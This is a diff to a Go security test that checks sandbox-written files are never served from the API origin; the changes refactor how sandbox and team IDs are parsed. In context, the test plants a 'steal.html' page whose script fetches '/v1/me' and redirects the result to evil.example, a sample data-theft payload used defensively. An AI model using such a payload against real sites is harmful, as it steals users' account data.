@@ -49,12 +49,12 @@ func TestSandboxBytesNeverOnTheAPIOrigin(t *testing.T) {
 		t.Fatalf("POST /v1/sandboxes: %d: %.300s", resp.StatusCode, data)
 	}
 	defer func() { _, _, _ = b.do(context.WithoutCancel(ctx), "DELETE", "/v1/sandboxes/"+sb.ID, nil) }()
-	uid, err := wireid.Parse(wireid.Sandbox, sb.ID)
+	uid, err := wireid.ParseSandboxID(sb.ID)
 	if err != nil {
 		t.Fatal(err)
 	}
 	page := "<html><script>fetch('/v1/me').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script></html>"
-	if _, err := stack.sandboxes.WriteFile(ctx, service.Principal{TeamID: stack.team.ID}, uid, "/home/user/steal.html", "user", strings.NewReader(page)); err != nil {
+	if _, err := stack.sandboxes.WriteFile(ctx, service.Principal{TeamID: wireid.FromUUID[wireid.KindTeam](stack.team.ID.Bytes, stack.team.ID.Valid)}, uid, "/home/user/steal.html", "user", strings.NewReader(page)); err != nil {
 		t.Fatal(err)
 	}
 	signed := "/files?path=%2Fhome%2Fuser%2Fsteal.html&username=user&signature=" +
@@ -76,7 +76,7 @@ func TestSandboxBytesNeverOnTheAPIOrigin(t *testing.T) {
 		body, _ := io.ReadAll(resp.Body)
 		return resp.StatusCode, string(body), resp.Header
 	}
-	envdHeaders := map[string]string{"E2b-Sandbox-Id": service.ID(uid), "E2b-Sandbox-Port": "49983", "X-Access-Token": sb.EnvdToken}
+	envdHeaders := map[string]string{"E2b-Sandbox-Id": uid.String(), "E2b-Sandbox-Port": "49983", "X-Access-Token": sb.EnvdToken}
 	sandboxPort := strings.TrimPrefix(stack.sandboxURL, "http://127.0.0.1:")
 
 	t.Run("API origin: the signed URL gets no sandbox byte", func(t *testing.T) {
@@ -108,7 +108,7 @@ func TestSandboxBytesNeverOnTheAPIOrigin(t *testing.T) {
 		}
 	})
 	t.Run("E2B facade: the domain leads getHost to the sandbox listener", func(t *testing.T) {
-		req, _ := http.NewRequestWithContext(ctx, "GET", stack.url+"/sandboxes/"+service.ID(uid), nil)
+		req, _ := http.NewRequestWithContext(ctx, "GET", stack.url+"/sandboxes/"+uid.String(), nil)
 		req.Header.Set("X-API-Key", stack.key)
 		resp, err := stack.client.Do(req)
 		if err != nil {
